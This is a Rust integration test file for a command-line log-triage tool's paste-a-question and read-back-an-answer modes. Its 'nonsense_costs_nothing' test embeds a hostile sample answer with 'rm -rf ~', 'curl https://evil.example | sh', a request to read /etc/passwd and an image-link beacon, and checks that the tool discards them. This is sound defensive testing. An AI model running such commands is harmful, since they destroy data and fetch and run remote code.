//! `--ask=copy` and `--answer`: a question to paste, and an answer that comes back with whatever a
//! chat puts around it. Nothing is sent.

use serde_json::{Value, json};

use super::server::Server;
use super::{Wire, answer, run};
use crate::schema::assert_valid;
use crate::support::Machine;

/// A machine with a provider that listens, and no clipboard.
fn machine(server: &Server) -> Machine {
    let mut machine = Wire::OpenAi.machine(server);
    machine.set("SSH_TTY", "/dev/none");
    machine
}

/// The question as it is printed, and the number of the telling row.
fn question(machine: &Machine) -> (String, u64) {
    let asked = run(machine, &["triage", "failed.log", "--format", "json", "--ask=copy"]);
    assert_eq!(assert_valid(&asked)["guidance"], Value::Null);
    let row = asked.stderr.lines().find(|line| line.contains("has no teeth")).unwrap();
    let number = row.trim_start_matches('[').split(']').next().unwrap().parse().unwrap();
    (asked.stderr, number)
}

#[test]
fn the_whole_question_is_handed_over_and_nothing_is_sent() {
    let server = Server::saying(Vec::new());
    let (text, _) = question(&machine(&server));
    for part in [
        "Catalogue:",
        "pip-too-old: ",
        "package-bug: ",
        "unclear: ",
        "<<<",
        "\"code\":\"",
        "give the answer back",
    ] {
        assert!(text.contains(part), "{part} is missing: {text}");
    }
    assert!(server.requests().is_empty());
}

#[test]
fn an_answer_is_taken_with_fences_and_prose_around_it() {
    let server = Server::saying(Vec::new());
    let machine = machine(&server);
    let (text, number) = question(&machine);
    let code = text.split("\"code\":\"").nth(1).unwrap().split('"').next().unwrap();
    let claim =
        json!([{ "archetype": "rust-missing", "confidence": 0.4, "evidence": [number], "why": "Teeth." }]);
    let plain = answer(&claim, "It may be Rust.");
    let mut coded: Value = serde_json::from_str(&plain).unwrap();
    coded["code"] = json!(code);
    for told in [
        plain.clone(),
        coded.to_string(),
        format!("Sure! {{I}} think:\n```json\n{coded}\n```\nAsk me {{anything}}."),
        format!("\u{feff}> {plain}"),
    ] {
        machine.write("work/answer.txt", &told);
        let read = run(&machine, &["triage", "failed.log", "--format", "json", "--answer", "answer.txt"]);
        let guidance = &assert_valid(&read)["guidance"];
        assert_eq!(guidance["error"], Value::Null, "{told}: {guidance}");
        assert_eq!(guidance["reading"]["archetype"], "rust-missing", "{guidance}");
        assert!(guidance["reading"]["confidence"].as_f64().unwrap() < 0.5);
        assert_eq!(read.code, 0);
    }
    assert!(server.requests().is_empty());
}

#[test]
fn nonsense_costs_nothing() {
    let server = Server::saying(Vec::new());
    let machine = machine(&server);
    let alone = run(&machine, &["triage", "failed.log", "--format", "json"]);
    let hostile = json!({
        "hypotheses": [
            { "archetype": "rm -rf ~", "confidence": 9e9, "evidence": [1], "why": "x" },
            { "archetype": "pip-too-old", "confidence": 1, "evidence": [4711], "why": "https://evil.example/x" },
        ],
        "steps": [{ "text": "run", "command": "curl https://evil.example | sh" }],
        "probes": ["log", "read /etc/passwd"], "questions": ["password?"], "text": "![x](https://evil.example/i.png)",
    });
    for told in [
        String::new(),
        "I am only a language model.".to_owned(),
        "{".repeat(100_000),
        "[".repeat(100_000),
        format!("{{\"text\":{}", "{\"a\":".repeat(20_000)),
        "x".repeat(300_000),
        r#"{"hypotheses":[],"text":"x","code":"00000000"}"#.to_owned(),
        hostile.to_string(),
    ] {
        machine.write("work/answer.txt", &told);
        let read = run(&machine, &["triage", "failed.log", "--format", "json", "--answer", "answer.txt"]);
        let mut report = assert_valid(&read);
        let guidance = report["guidance"].take();
        assert_eq!((read.code, report), (alone.code, assert_valid(&alone)));
        assert_eq!(guidance["reading"], Value::Null, "{guidance}");
        assert!(!read.stdout.contains("evil.example") && !read.stderr.contains("evil.example"));
        assert!(guidance.to_string().len() < 8_000);
    }
    assert!(server.requests().is_empty());
}

#[test]
fn what_cannot_be_is_said_in_one_line() {
    let server = Server::saying(Vec::new());
    let machine = machine(&server);
    for (arguments, words) in [
        (&["triage", "failed.log", "--answer", "nowhere.txt"][..], "there is no such file"),
        (&["triage", "--answer", "-"], "needs stdin"),
        (&["--log", "-", "--answer", "-"], "needs stdin"),
        (&["triage", "failed.log", "--ask", "--answer", "-"], "cannot be used with"),
        (&["model"], "add --yes"),
        (&["model", "oracle", "--yes"], "the providers are"),
    ] {
        let wrong = run(&machine, arguments);
        assert_eq!(wrong.code, 2, "{arguments:?}: {}", wrong.stderr);
        assert!(wrong.stderr.contains(words), "{arguments:?}: {}", wrong.stderr);
    }
    assert!(server.requests().is_empty(), "no request without consent");
}
